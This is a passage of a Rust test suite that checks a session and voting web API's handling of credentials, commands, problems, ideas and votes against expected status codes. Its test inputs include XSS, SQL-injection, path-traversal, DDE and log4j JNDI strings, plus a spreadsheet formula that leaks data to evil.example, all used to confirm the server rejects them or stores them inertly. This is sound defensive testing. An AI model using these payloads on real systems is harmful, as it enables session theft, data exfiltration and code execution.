            .json(json!({"name": name, "department": SERVICE}))
    };
    vec![
        Accepted::new(
            join(
                "name exactly at the limit in 4-byte characters",
                &four_byte(NAME_MAX),
            ),
            201,
            Stored::ParticipantName,
            four_byte(NAME_MAX),
        ),
        Accepted::new(
            join("HTML as a name", "<b onmouseover=alert(1)>Eve</b>"),
            201,
            Stored::ParticipantName,
            "<b onmouseover=alert(1)>Eve</b>",
        ),
        Accepted::new(
            join(
                "decomposed (NFD) name is stored composed (NFC)",
                "Jose\u{301}",
            ),
            201,
            Stored::ParticipantName,
            "Jos\u{e9}",
        ),
        Accepted::new(
            join(
                "RTL override and zero-width space are stripped",
                "\u{202E}evE\u{200B}",
            ),
            201,
            Stored::ParticipantName,
            "evE",
        ),
        Accepted::new(
            join("ANSI escape loses its ESC", "\u{1b}[31mRed"),
            201,
            Stored::ParticipantName,
            "[31mRed",
        ),
    ]
}

fn credential_cases(cx: &Ctx, ann_ticket: &str, other_ticket: &str) -> Vec<Case> {
    let snap = |what: &str| Case::get(format!("snapshot: {what}"), cx.session());
    let unknown = cx.unknown_sid();
    let tampered = {
        let mut parts: Vec<&str> = ann_ticket.splitn(3, '.').collect();
        parts[1] = "f";
        parts.join(".")
    };
    let events = |what: &str, query: &str| {
        Case::get(format!("events: {what}"), format!("{}{query}", cx.events()))
    };
    let with_ticket = format!("?ticket={ann_ticket}");
    let lei = |what: &str, value: &[u8]| {
        events(&format!("Last-Event-ID {what}"), &with_ticket)
            .header("last-event-id", value)
            .expect(400, "invalid_last_event_id")
    };
    let export = |what: &str, file: &str| Case::get(format!("export: {what}"), cx.export(file));
    vec![
        // The snapshot.
        snap("no credentials").expect(401, "missing_token"),
        snap("garbage bearer token")
            .bearer("garbage")
            .expect(401, "invalid_token"),
        snap("10 KB bearer token")
            .bearer(&"A".repeat(10 * 1024))
            .expect(401, "invalid_token"),
        snap("Basic instead of Bearer")
            .header("authorization", "Basic YWRtaW46YWRtaW4=")
            .expect(401, "missing_token"),
        snap("lower-case scheme")
            .header("authorization", format!("bearer {}", cx.fac))
            .expect(401, "missing_token"),
        snap("empty bearer")
            .header("authorization", "Bearer ")
            .expect(401, "missing_token"),
        snap("non-ASCII bytes in Authorization")
            .header("authorization", &b"Bearer \xff\xfe"[..])
            .expect(401, "missing_token"),
        snap("SQL as bearer token")
            .bearer("' OR '1'='1")
            .expect(401, "invalid_token"),
        snap("other session's facilitator token")
            .bearer(&cx.other_fac)
            .expect(401, "invalid_token"),
        snap("other session's participant token")
            .bearer(&cx.olga)
            .expect(401, "invalid_token"),
        snap("ticket used as a bearer token")
            .header("authorization", format!("Bearer {ann_ticket}"))
            .expect(401, "invalid_token"),
        Case::get(
            "snapshot: ticket in the query is not a credential here",
            format!("{}?ticket={ann_ticket}", cx.session()),
        )
        .expect(401, "missing_token"),
        Case::get(
            "snapshot: own token on another session",
            format!("/api/sessions/{}", cx.other_sid),
        )
        .bearer(&cx.ann)
        .expect(401, "invalid_token"),
        Case::get(
            "snapshot: unknown session",
            format!("/api/sessions/{unknown}"),
        )
        .bearer(&cx.fac)
        .expect(404, "session_not_found"),
        Case::get("snapshot: 23-character id", format!("{}x", cx.session()))
            .bearer(&cx.fac)
            .expect(404, "session_not_found"),
        Case::get(
            "snapshot: path traversal id",
            "/api/sessions/..%2F..%2F..%2Fetc%2Fpasswd",
        )
        .bearer(&cx.fac)
        .expect(404, "session_not_found"),
        Case::get(
            "snapshot: SQL as id",
            "/api/sessions/1'%3B%20DROP%20TABLE%20events%3B--",
        )
        .bearer(&cx.fac)
        .expect(404, "session_not_found"),
        Case::get("unknown API endpoint", "/api/admin").expect(404, "not_found"),
        Case::get(
            "unknown session sub-resource",
            format!("{}/secrets", cx.session()),
        )
        .bearer(&cx.fac)
        .expect(404, "not_found"),
        // Tickets.
        Case::post("tickets: no credentials", cx.tickets()).expect(401, "missing_token"),
        Case::post("tickets: other session's facilitator token", cx.tickets())
            .bearer(&cx.other_fac)
            .expect(401, "invalid_token"),
        Case::post(
            "tickets: unknown session",
            format!("/api/sessions/{unknown}/tickets"),
        )
        .bearer(&cx.fac)
        .expect(404, "session_not_found"),
        Case::post("tickets: cross-site", cx.tickets())
            .bearer(&cx.fac)
            .header("sec-fetch-site", "cross-site")
            .expect(403, "cross_origin"),
        // The live stream.
        events("no ticket", "").expect(401, "missing_token"),
        events("garbage ticket", "?ticket=garbage").expect(401, "invalid_ticket"),
        events(
            "ticket of another session",
            &format!("?ticket={other_ticket}"),
        )
        .expect(401, "invalid_ticket"),
        events(
            "participant ticket edited to facilitator",
            &format!("?ticket={tampered}"),
        )
        .expect(401, "invalid_ticket"),
        events(
            "long-lived token as a ticket",
            &format!("?ticket={}", cx.fac),
        )
        .expect(401, "invalid_ticket"),
        events(
            "ticket given twice",
            &format!("?ticket={ann_ticket}&ticket={ann_ticket}"),
        )
        .expect(400, "invalid_query"),
        Case::get(
            "events: unknown session with a ticket",
            format!("/api/sessions/{unknown}/events?ticket={ann_ticket}"),
        )
        .expect(404, "session_not_found"),
        events("cross-site", &with_ticket)
            .header("sec-fetch-site", "cross-site")
            .expect(403, "cross_origin"),
        lei("not a number", b"abc"),
        lei("negative", b"-1"),
        lei("fractional", b"1.5"),
        lei("past u64", b"18446744073709551616"),
        lei("empty", b""),
        lei("ahead of the log", b"1000000"),
        lei("4-byte characters", "😀".as_bytes()),
        lei("non-UTF-8 bytes", b"\xff\xfe"),
        lei("SQL", b"1; DROP TABLE events"),
        events("after= not a number", &format!("{with_ticket}&after=abc"))
            .expect(400, "invalid_last_event_id"),
        events("after= negative", &format!("{with_ticket}&after=-5"))
            .expect(400, "invalid_last_event_id"),
        events(
            "after= ahead of the log",
            &format!("{with_ticket}&after=99999"),
        )
        .expect(400, "invalid_last_event_id"),
        // Exports.
        export("unknown file", "actions.exe")
            .bearer(&cx.fac)
            .expect(404, "unknown_export"),
        export("path traversal", "..%2F..%2F..%2Fetc%2Fpasswd")
            .bearer(&cx.fac)
            .expect(404, "unknown_export"),
        export("upper-case name", "ACTIONS.CSV")
            .bearer(&cx.fac)
            .expect(404, "unknown_export"),
        export("NUL-truncated name", "actions.csv%00.exe")
            .bearer(&cx.fac)
            .expect(404, "unknown_export"),
        export("no credentials", "actions.csv").expect(401, "missing_token"),
        Case::get(
            "export: garbage ticket",
            format!("{}?ticket=x.y.z", cx.export("actions.csv")),
        )
        .expect(401, "invalid_ticket"),
        Case::get(
            "export: other session's ticket",
            format!("{}?ticket={other_ticket}", cx.export("summary.md")),
        )
        .expect(401, "invalid_ticket"),
        export("other session's participant token", "actions.json")
            .bearer(&cx.olga)
            .expect(401, "invalid_token"),
        Case::get(
            "export: unknown session",
            format!("/api/sessions/{unknown}/export/actions.csv"),
        )
        .bearer(&cx.fac)
        .expect(404, "session_not_found"),
    ]
}

/// Command-endpoint cases that do not depend on the phase (run in the Lobby).
fn command_cases(cx: &Ctx) -> Vec<Case> {
    let fac = |what: &str, command: Value| cx.cmd(format!("command: {what}"), &cx.fac, command);
    let ann = |what: &str, command: Value| {
        cx.cmd(format!("command (participant): {what}"), &cx.ann, command)
    };
    let body = |what: &str, body: Value| {
        Case::post(format!("command: {what}"), cx.commands())
            .bearer(&cx.fac)
            .json(body)
    };
    let timer = |what: &str, seconds: Value| {
        fac(
            &format!("timer {what}"),
            json!({"type": "start_timer", "seconds": seconds}),
        )
    };
    let key = |what: &str, key: Value| {
        body(
            &format!("idempotency key {what}"),
            json!({"command": {"type": "clear_timer"}, "idempotency_key": key}),
        )
    };
    let settings = |budget: Value, cap: Value, anonymous: bool| {
        json!({"type": "update_settings", "settings": {
            "vote_budget": budget, "vote_cap_per_idea": cap,
            "allow_own_department_ideas": false, "anonymous": anonymous}})
    };
    let rename = |what: &str, department: Value, name: Value| {
        fac(
            &format!("rename {what}"),
            json!({"type": "rename_department", "department": department, "name": name}),
        )
    };
    let mut over_limit = br#"{"command":{"type":"submit_problem","text":""#.to_vec();
    over_limit.resize(64 * 1024 + 1, b'a');
    over_limit.extend_from_slice(br#""}}"#);
    let mut cases = vec![
        // Who may send commands at all.
        Case::post("command: no credentials", cx.commands())
            .json(json!({"command": {"type": "clear_timer"}}))
            .expect(401, "missing_token"),
        Case::post("command: garbage token", cx.commands())
            .bearer("garbage")
            .json(json!({"command": {"type": "clear_timer"}}))
            .expect(401, "invalid_token"),
        Case::post("command: other session's facilitator token", cx.commands())
            .bearer(&cx.other_fac)
            .json(json!({"command": {"type": "set_phase", "phase": "problems"}}))
            .expect(401, "invalid_token"),
        Case::post(
            "command: own participant token on another session",
            cx.other_commands(),
        )
        .bearer(&cx.ann)
        .json(json!({"command": {"type": "clear_timer"}}))
        .expect(401, "invalid_token"),
        Case::post(
            "command: ticket where a token is wanted",
            format!("{}?ticket=x", cx.commands()),
        )
        .json(json!({"command": {"type": "clear_timer"}}))
        .expect(401, "missing_token"),
        Case::post(
            "command: unknown session",
            format!("/api/sessions/{}/commands", cx.unknown_sid()),
        )
        .bearer(&cx.fac)
        .json(json!({"command": {"type": "clear_timer"}}))
        .expect(404, "session_not_found"),
        // Participant token on facilitator actions.
        ann(
            "set phase",
            json!({"type": "set_phase", "phase": "problems"}),
        )
        .expect(403, "facilitator_only"),
        ann("start timer", json!({"type": "start_timer", "seconds": 60}))
            .expect(403, "facilitator_only"),
        ann("clear timer", json!({"type": "clear_timer"})).expect(403, "facilitator_only"),
        ann(
            "rename department",
            json!({"type": "rename_department", "department": 1, "name": "Mine"}),
        )
        .expect(403, "facilitator_only"),
        ann("update settings", settings(json!(50), json!(50), false))
            .expect(403, "facilitator_only"),
        ann(
            "confirm pick",
            json!({"type": "confirm_pick", "problem": 1, "picked": true}),
        )
        .expect(403, "facilitator_only"),
        ann(
            "create action",
            json!({"type": "create_action", "action": {
            "title": "Mine", "problem": 1, "owner": "Ann", "department": 1, "due": "2030-01-01"}}),
        )
        .expect(403, "facilitator_only"),
        ann(
            "update action",
            json!({"type": "update_action", "id": 1, "action": {
            "title": "Mine", "problem": 1, "owner": "Ann", "department": 1, "due": "2030-01-01"}}),
        )
        .expect(403, "facilitator_only"),
        ann(
            "set action status",
            json!({"type": "set_action_status", "id": 1, "status": "done"}),
        )
        .expect(403, "facilitator_only"),
        ann("delete action", json!({"type": "delete_action", "id": 1}))
            .expect(403, "facilitator_only"),
        // Facilitator token on participant actions.
        fac(
            "facilitator submits a problem",
            json!({"type": "submit_problem", "text": "x"}),
        )
        .expect(403, "participant_only"),
        fac("facilitator votes", json!({"type": "cast_vote", "idea": 1}))
            .expect(403, "participant_only"),
        // Shapes the command type does not have.
        body("empty object", json!({})).expect(400, "invalid_body"),
        body("command null", json!({"command": null})).expect(400, "invalid_body"),
        body(
            "unknown command type",
            json!({"command": {"type": "drop_table", "table": "events"}}),
        )
        .expect(400, "invalid_body"),
        body(
            "type in the wrong case",
            json!({"command": {"type": "Set_Phase", "phase": "problems"}}),
        )
        .expect(400, "invalid_body"),
        body("missing type", json!({"command": {"phase": "problems"}})).expect(400, "invalid_body"),
        body(
            "unknown field in the command",
            json!({"command": {"type": "start_timer", "seconds": 60, "as": "facilitator"}}),
        )
        .expect(400, "invalid_body"),
        body(
            "actor smuggled into the command",
            json!({"command": {"type": "submit_problem", "text": "x",
                               "actor": {"role": "facilitator"}}}),
        )
        .expect(400, "invalid_body"),
        Case::post("command: the command key twice", cx.commands())
            .bearer(&cx.fac)
            .raw(
                Some("application/json"),
                r#"{"command":{"type":"clear_timer"},
                    "command":{"type":"set_phase","phase":"problems"}}"#,
            )
            .expect(400, "invalid_body"),
        body(
            "join through the command endpoint",
            json!({"command": {"type": "join", "name": "Mallory", "department": 1}}),
        )
        .expect(400, "use_join_endpoint"),
        fac(
            "unknown phase",
            json!({"type": "set_phase", "phase": "nirvana"}),
        )
        .expect(400, "invalid_body"),
        fac(
            "phase in upper case",
            json!({"type": "set_phase", "phase": "PROBLEMS"}),
        )
        .expect(400, "invalid_body"),
        fac(
            "skip a phase",
            json!({"type": "set_phase", "phase": "pick"}),
        )
        .expect(409, "phase_step"),
        fac(
            "jump to closed",
            json!({"type": "set_phase", "phase": "closed"}),
        )
        .expect(409, "phase_step"),
        fac(
            "phase to itself",
            json!({"type": "set_phase", "phase": "lobby"}),
        )
        .expect(409, "phase_step"),
        // Numbers.
        timer("0 seconds", json!(0)).expect(422, "timer_range"),
        timer("one past the maximum", json!(TIMER_MAX_SECONDS + 1)).expect(422, "timer_range"),
        timer("u32::MAX", json!(u32::MAX)).expect(422, "timer_range"),
        timer("negative", json!(-1)).expect(400, "invalid_body"),
        timer("fractional", json!(1.5)).expect(400, "invalid_body"),
        timer("60.0", json!(60.0)).expect(400, "invalid_body"),
        timer("past u32", json!(4_294_967_296_u64)).expect(400, "invalid_body"),
        timer("past u64", json!(1e30)).expect(400, "invalid_body"),
        Case::post("command: timer 1e400", cx.commands())
            .bearer(&cx.fac)
            .raw(
                Some("application/json"),
                r#"{"command":{"type":"start_timer","seconds":1e400}}"#,
            )
            .expect(400, "invalid_json"),
        timer("as a string", json!("60")).expect(400, "invalid_body"),
        timer("null", json!(null)).expect(400, "invalid_body"),
        timer("true", json!(true)).expect(400, "invalid_body"),
        fac("settings: budget 0", settings(json!(0), json!(1), false))
            .expect(422, "invalid_settings"),
        fac("settings: budget 51", settings(json!(51), json!(1), false))
            .expect(422, "invalid_settings"),
        fac("settings: cap 0", settings(json!(5), json!(0), false)).expect(422, "invalid_settings"),
        fac(
            "settings: cap above budget",
            settings(json!(5), json!(6), false),
        )
        .expect(422, "invalid_settings"),
        fac(
            "settings: anonymity flipped after creation",
            settings(json!(5), json!(3), true),
        )
        .expect(422, "invalid_settings"),
        fac(
            "settings: negative budget",
            settings(json!(-5), json!(1), false),
        )
        .expect(400, "invalid_body"),
        fac(
            "settings: fractional cap",
            settings(json!(5), json!(0.5), false),
        )
        .expect(400, "invalid_body"),
        // Department names.
        rename(
            "one past the limit",
            json!(SERVICE),
            json!(four_byte(DEPARTMENT_NAME_MAX + 1)),
        )
        .expect(422, "too_long")
        .mentions(format!("{} characters", DEPARTMENT_NAME_MAX + 1)),
        rename("to empty", json!(SERVICE), json!(" \t ")).expect(422, "empty"),
        rename(
            "to zero-width spaces",
            json!(SERVICE),
            json!("\u{200B}\u{200B}"),
        )
        .expect(422, "empty"),
        rename(
            "to another department's name in other case",
            json!(SERVICE),
            json!("MARKETING"),
        )
        .expect(422, "duplicate_department"),
        rename(
            "to another department's name with a BOM",
            json!(SERVICE),
            json!("\u{FEFF}Marketing"),
        )
        .expect(422, "duplicate_department"),
        rename("unknown department", json!(9), json!("Nine")).expect(404, "unknown_department"),
        rename("department 0", json!(0), json!("Zero")).expect(404, "unknown_department"),
        rename("negative department", json!(-1), json!("Minus")).expect(400, "invalid_body"),
        // Ids that do not exist here.
        fac(
            "withdraw unknown problem",
            json!({"type": "withdraw_problem", "problem": 999}),
        )
        .expect(404, "unknown_problem"),
        fac(
            "withdraw problem u32::MAX",
            json!({"type": "withdraw_problem", "problem": u32::MAX}),
        )
        .expect(404, "unknown_problem"),
        fac(
            "withdraw unknown idea",
            json!({"type": "withdraw_idea", "idea": 999}),
        )
        .expect(404, "unknown_idea"),
        // Wrong phase.
        ann(
            "submit a problem in the Lobby",
            json!({"type": "submit_problem", "text": "x"}),
        )
        .expect(409, "wrong_phase"),
        ann("vote in the Lobby", json!({"type": "cast_vote", "idea": 1}))
            .expect(409, "wrong_phase"),
        fac(
            "create an action in the Lobby",
            json!({"type": "create_action", "action": {
            "title": "x", "problem": 1, "owner": "x", "department": 1, "due": "2030-01-01"}}),
        )
        .expect(409, "wrong_phase"),
        // Idempotency keys.
        key("empty", json!("")).expect(400, "invalid_idempotency_key"),
        key("of 101 characters", json!("k".repeat(101))).expect(400, "invalid_idempotency_key"),
        key("with a space", json!("a b")).expect(400, "invalid_idempotency_key"),
        key("with a newline", json!("a\nb")).expect(400, "invalid_idempotency_key"),
        key("non-ASCII", json!("ключ")).expect(400, "invalid_idempotency_key"),
        key("4-byte characters", json!(four_byte(4))).expect(400, "invalid_idempotency_key"),
        key("SQL with spaces", json!("'; DROP TABLE idempotency; --"))
            .expect(400, "invalid_idempotency_key"),
        key("as a number", json!(42)).expect(400, "invalid_body"),
        // Bodies.
        Case::post(
            "command: 30000-deep array inside the command",
            cx.commands(),
        )
        .bearer(&cx.fac)
        .raw(
            Some("application/json"),
            format!(
                r#"{{"command":{{"type":"start_timer","seconds":60,"x":{}{}}}}}"#,
                "[".repeat(30_000),
                "]".repeat(30_000)
            ),
        )
        // With the tag first, the unknown field is refused before its value is read
        // (shared/src/tagged.rs); the case below reaches the nesting limit instead.
        .expect(400, "invalid_body"),
        Case::post(
            "command: 30000-deep objects inside the command",
            cx.commands(),
        )
        .bearer(&cx.fac)
        .raw(
            Some("application/json"),
            format!(
                r#"{{"command":{{"x":{}1{},"type":"start_timer","seconds":60}}}}"#,
                r#"{"a":"#.repeat(10_000),
                "}".repeat(10_000)
            ),
        )
        .expect(400, "invalid_json"),
        Case::post("command: just over the 64 KB body limit", cx.commands())
            .bearer(&cx.fac)
            .raw(Some("application/json"), over_limit)
            .expect(413, "body_too_large"),
    ];
    cases.extend(malformed_bodies(
        "command",
        &cx.commands(),
        Some(&cx.fac),
        &json!({"command": {"type": "start_timer", "seconds": 60}}),
    ));
    cases
}

fn accepted_commands(cx: &Ctx) -> Vec<Accepted> {
    let keyed = |what: &str, key: &str| {
        Case::post(format!("command: idempotency key {what}"), cx.commands())
            .bearer(&cx.fac)
            .json(json!({"command": {"type": "clear_timer"}, "idempotency_key": key}))
    };
    vec![
        Accepted::new(
            keyed("of exactly 100 characters", &"k".repeat(100)),
            200,
            Stored::Nothing,
            "unchanged",
        ),
        Accepted::new(
            keyed("that looks like SQL", "';DROP/**/TABLE/**/events;--"),
            200,
            Stored::Nothing,
            "unchanged",
        ),
        Accepted::new(
            Case::post("command: unknown top-level field is ignored", cx.commands())
                .bearer(&cx.fac)
                .json(json!({"command": {"type": "clear_timer"}, "actor": "facilitator", "admin": true})),
            200,
            Stored::Nothing,
            "unchanged",
        ),
        Accepted::new(
            Case::post("command: JSON content type with charset and +json suffix", cx.commands())
                .bearer(&cx.fac)
                .raw(
                    Some("application/vnd.summit+json; charset=utf-8"),
                    r#"{"command":{"type":"clear_timer"}}"#,
                ),
            200,
            Stored::Nothing,
            "unchanged",
        ),
        Accepted::new(
            Case::get(
                "preview: loosely typed real code",
                format!("/api/join/%20{}-%20", cx.code.to_lowercase()),
            ),
            200,
            Stored::Nothing,
            "unchanged",
        ),
        Accepted::new(
            cx.cmd(
                "command: timer exactly at the maximum",
                &cx.fac,
                json!({"type": "start_timer", "seconds": TIMER_MAX_SECONDS}),
            ),
            200,
            Stored::Timer,
            TIMER_MAX_SECONDS.to_string(),
        ),
    ]
}

fn problem_cases(cx: &Ctx, ann_problem: u64) -> Vec<Case> {
    let submit = |what: &str, token: &str, text: Value| {
        cx.cmd(
            format!("problem: {what}"),
            token,
            json!({"type": "submit_problem", "text": text}),
        )
    };
    let withdraw = |what: &str, token: &str, problem: Value| {
        cx.cmd(
            format!("withdraw problem: {what}"),
            token,
            json!({"type": "withdraw_problem", "problem": problem}),
        )
    };
    vec![
        submit(
            "one past the limit in 4-byte characters",
            &cx.ann,
            json!(four_byte(TEXT_MAX + 1)),
        )
        .expect(422, "too_long")
        .mentions(format!("{} characters", TEXT_MAX + 1))
        .mentions(format!("{TEXT_MAX}")),
        submit(
            "one past the limit after cleaning",
            &cx.ann,
            json!(format!("\u{200B}{}x\u{7}", music(TEXT_MAX))),
        )
        .expect(422, "too_long")
        .mentions(format!("{} characters", TEXT_MAX + 1)),
        submit("empty", &cx.ann, json!("")).expect(422, "empty"),
        submit(
            "only whitespace and controls",
            &cx.ann,
            json!(" \t\u{0}\u{7}\r\n\u{85} "),
        )
        .expect(422, "empty"),
        submit(
            "only disguising invisibles",
            &cx.ann,
            json!("\u{200B}\u{FEFF}\u{202E}\u{2060}\u{2069}"),
        )
        .expect(422, "empty"),
        submit("text null", &cx.ann, json!(null)).expect(400, "invalid_body"),
        submit("text as a number", &cx.ann, json!(1)).expect(400, "invalid_body"),
        submit("text as an object", &cx.ann, json!({"$gt": ""})).expect(400, "invalid_body"),
        cx.cmd(
            "problem: department smuggled in",
            &cx.ann,
            json!({"type": "submit_problem", "text": "x", "department": 2}),
        )
        .expect(400, "invalid_body"),
        Case::post("problem: 70 KB of text", cx.commands())
            .bearer(&cx.ann)
            .json(json!({"command": {"type": "submit_problem", "text": "a".repeat(70_000)}}))
            .expect(413, "body_too_large"),
        withdraw("unknown", &cx.ann, json!(999)).expect(404, "unknown_problem"),
        withdraw("someone else's", &cx.bob, json!(ann_problem)).expect(403, "not_author"),
        withdraw("negative id", &cx.ann, json!(-1)).expect(400, "invalid_body"),
        withdraw("fractional id", &cx.ann, json!(1.5)).expect(400, "invalid_body"),
        withdraw("id past u32", &cx.ann, json!(4_294_967_296_u64)).expect(400, "invalid_body"),
        withdraw("id as a string", &cx.ann, json!("1")).expect(400, "invalid_body"),
        withdraw("id as SQL", &cx.ann, json!("1 OR 1=1")).expect(400, "invalid_body"),
        cx.cmd(
            "idea in the Problems phase",
            &cx.bob,
            json!({"type": "submit_idea", "problem": 1, "text": "x"}),
        )
        .expect(409, "wrong_phase"),
        cx.cmd(
            "support in the Problems phase",
            &cx.ann,
            json!({"type": "support_problem", "problem": 1, "support": true}),
        )
        .expect(409, "wrong_phase"),
    ]
}

/// Problem texts that are valid and must be stored as text; the first of each
/// department is picked later and ends up in the CSV export.
const FORMULA_PROBLEM: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")";
const DDE_PROBLEM: &str = "-2+3+cmd|' /C calc'!A0";

fn accepted_problems(cx: &Ctx) -> Vec<Accepted> {
    let submit = |what: &str, token: &str, text: &str| {
        cx.cmd(
            format!("problem: {what}"),
            token,
            json!({"type": "submit_problem", "text": text}),
        )
    };
    let same = |what: &str, token: &str, text: &str| {
        Accepted::new(submit(what, token, text), 200, Stored::ProblemText, text)
    };
    vec![
        same("spreadsheet formula", &cx.ann, FORMULA_PROBLEM),
        same("DDE payload", &cx.bob, DDE_PROBLEM),
        same(
            "script tag",
            &cx.ann,
            "<script>alert(document.cookie)</script>",
        ),
        same("SQL", &cx.ann, "'; DROP TABLE events; --"),
        same(
            "image with onerror",
            &cx.bob,
            "<img src=x onerror=alert(1)>",
        ),
        same(
            "markdown link and image",
            &cx.bob,
            "[click](javascript:alert(1)) ![](http://evil.example/pixel.png)",
        ),
        same(
            "template and log4j syntax",
            &cx.bob,
            "{{7*7}} ${jndi:ldap://evil.example/a}",
        ),
        Accepted::new(
            submit(
                "decomposed (NFD) look-alike is stored composed (NFC)",
                &cx.bob,
                "Cafe\u{301} menus confuse customers",
            ),
            200,
            Stored::ProblemText,
            "Caf\u{e9} menus confuse customers",
        ),
        same(
            "precomposed (NFC) twin kept as sent",
            &cx.bob,
            "Caf\u{e9} menus confuse customers",
        ),
        same(
            "exactly at the limit in 4-byte characters",
            &cx.ann,
            &four_byte(TEXT_MAX),
        ),
        Accepted::new(
            submit(
                "at the limit once invisibles are removed",
                &cx.ann,
                &format!("\u{FEFF}{}\u{200B} ", music(TEXT_MAX)),
            ),
            200,
            Stored::ProblemText,
            music(TEXT_MAX),
        ),
        Accepted::new(
            submit(
                "controls removed, newline kept",
                &cx.ann,
                "  spaced\u{0}\u{7} out\r\nline two\t ",
            ),
            200,
            Stored::ProblemText,
            "spaced out\nline two",
        ),
        Accepted::new(
            submit("RTL override removed", &cx.ann, "\u{202E}gnp.exe"),
            200,
            Stored::ProblemText,
            "gnp.exe",
        ),
    ]
}

fn pick_cases(cx: &Ctx, ann_problem: u64, bob_problem: u64) -> Vec<Case> {
    let support = |what: &str, token: &str, problem: Value, flag: Value| {
        cx.cmd(
            format!("support: {what}"),
            token,
            json!({"type": "support_problem", "problem": problem, "support": flag}),
        )
    };
    vec![
        support("unknown problem", &cx.ann, json!(999), json!(true)).expect(404, "unknown_problem"),
        support(
            "other department's problem",
            &cx.ann,
            json!(bob_problem),
            json!(true),
        )
        .expect(403, "not_own_department"),
        support(
            "support as a string",
            &cx.ann,
            json!(ann_problem),
            json!("yes"),
        )
        .expect(400, "invalid_body"),
        support("support as 1", &cx.ann, json!(ann_problem), json!(1)).expect(400, "invalid_body"),
        support(
            "by the facilitator",
            &cx.fac,
            json!(ann_problem),
            json!(true),
        )
        .expect(403, "participant_only"),
        cx.cmd(
            "pick: by a participant",
            &cx.ann,
            json!({"type": "confirm_pick", "problem": ann_problem, "picked": true}),
        )
        .expect(403, "facilitator_only"),
        cx.cmd(
            "pick: unknown problem",
            &cx.fac,
            json!({"type": "confirm_pick", "problem": 999, "picked": true}),
        )
        .expect(404, "unknown_problem"),
        cx.cmd(
            "pick: move to Ideas with nothing picked",
            &cx.fac,
            json!({"type": "set_phase", "phase": "ideas"}),
        )
        .expect(409, "nothing_picked"),
        cx.cmd(
            "pick: problem in the Pick phase",
            &cx.ann,
            json!({"type": "submit_problem", "text": "late"}),
        )
        .expect(409, "wrong_phase"),
    ]
}

fn idea_cases(cx: &Ctx, ann_problem: u64, bob_problem: u64, unpicked: u64) -> Vec<Case> {
    let idea = |what: &str, token: &str, problem: Value, text: Value| {
        cx.cmd(
            format!("idea: {what}"),
            token,
            json!({"type": "submit_idea", "problem": problem, "text": text}),
        )
    };
    vec![
        idea(
            "for own department's problem",
            &cx.ann,
            json!(ann_problem),
            json!("x"),
        )
        .expect(403, "own_department_idea"),
        idea(
            "for an unpicked problem",
            &cx.bob,
            json!(unpicked),
            json!("x"),
        )
        .expect(409, "problem_not_picked"),
        idea("for an unknown problem", &cx.bob, json!(999), json!("x"))
            .expect(404, "unknown_problem"),
        idea("problem id negative", &cx.bob, json!(-1), json!("x")).expect(400, "invalid_body"),
        idea(
            "one past the limit in 4-byte characters",
            &cx.bob,
            json!(ann_problem),
            json!(music(TEXT_MAX + 1)),
        )
        .expect(422, "too_long")
        .mentions(format!("{} characters", TEXT_MAX + 1)),
        idea(
            "empty",
            &cx.bob,
            json!(ann_problem),
            json!("\u{200B}\n\u{FEFF}"),
        )
        .expect(422, "empty"),
        idea(
            "by the facilitator",
            &cx.fac,
            json!(bob_problem),
            json!("x"),
        )
        .expect(403, "participant_only"),
        cx.cmd(
            "idea: withdraw unknown",
            &cx.bob,
            json!({"type": "withdraw_idea", "idea": 999}),
        )
        .expect(404, "unknown_idea"),
        cx.cmd(
            "idea: vote in the Ideas phase",
            &cx.ann,
            json!({"type": "cast_vote", "idea": 1}),
        )
        .expect(409, "wrong_phase"),
    ]
}

const FORMULA_IDEA: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

fn accepted_ideas(cx: &Ctx, ann_problem: u64, bob_problem: u64) -> Vec<Accepted> {
    let idea = |what: &str, token: &str, problem: u64, text: &str| {
        Accepted::new(
            cx.cmd(
                format!("idea: {what}"),
                token,
                json!({"type": "submit_idea", "problem": problem, "text": text}),
            ),
            200,
            Stored::IdeaText,
            text,
        )
    };
    vec![
        idea("formula", &cx.bob, ann_problem, FORMULA_IDEA),
        idea("SVG onload", &cx.ann, bob_problem, "<svg onload=alert(1)>"),
        idea(
            "exactly at the limit in 4-byte characters",
            &cx.bob,
            ann_problem,
            &music(TEXT_MAX),
        ),
    ]
}

/// Ann has 3 dots on A (the cap) and 1 on B.
fn vote_cap_cases(cx: &Ctx, idea_a: u64, idea_b: u64) -> Vec<Case> {
    let vote =
        |what: &str, token: &str, command: Value| cx.cmd(format!("vote: {what}"), token, command);
    vec![
        vote(
            "fourth dot on one idea",
            &cx.ann,
            json!({"type": "cast_vote", "idea": idea_a}),
        )
        .expect(409, "vote_cap_exceeded"),
        vote(
            "move onto a capped idea",
            &cx.ann,
            json!({"type": "move_vote", "from": idea_b, "to": idea_a}),
        )
        .expect(409, "vote_cap_exceeded"),
    ]
}

/// Ann has spent her whole budget: 3 dots on A, 2 on B.
fn vote_cases(cx: &Ctx, idea_a: u64, idea_b: u64, idea_c: u64) -> Vec<Case> {
    let vote =
        |what: &str, token: &str, command: Value| cx.cmd(format!("vote: {what}"), token, command);
    vec![
        vote(
            "sixth dot",
            &cx.ann,
            json!({"type": "cast_vote", "idea": idea_c}),
        )
        .expect(409, "vote_budget_exceeded"),
        vote(
            "retract a dot never cast",
            &cx.bob,
            json!({"type": "retract_vote", "idea": idea_a}),
        )
        .expect(409, "no_vote"),
        vote(
            "move a dot never cast",
            &cx.bob,
            json!({"type": "move_vote", "from": idea_a, "to": idea_b}),
        )
        .expect(409, "no_vote"),
        vote(
            "move onto an unknown idea",
            &cx.ann,
            json!({"type": "move_vote", "from": idea_a, "to": 999}),
        )
        .expect(404, "unknown_idea"),
        vote(
            "unknown idea",
            &cx.bob,
            json!({"type": "cast_vote", "idea": 999}),
        )
        .expect(404, "unknown_idea"),
        vote(
            "negative idea",
            &cx.bob,
            json!({"type": "cast_vote", "idea": -1}),
        )
        .expect(400, "invalid_body"),
        vote(
            "fractional idea",
            &cx.bob,
            json!({"type": "cast_vote", "idea": 0.5}),
        )
        .expect(400, "invalid_body"),
        vote(
            "by the facilitator",
            &cx.fac,
            json!({"type": "cast_vote", "idea": idea_a}),
        )
        .expect(403, "participant_only"),
        vote(
            "budget change during the vote",
            &cx.fac,
            json!({"type": "update_settings", "settings": {
                "vote_budget": 50, "vote_cap_per_idea": 50,
                "allow_own_department_ideas": false, "anonymous": false}}),
        )
        .expect(409, "wrong_phase"),
    ]
}

fn plan_cases(cx: &Ctx, problem: u64, idea: u64, other_idea: u64) -> Vec<Case> {
    let draft = |title: Value, owner: Value, department: Value, due: Value| {
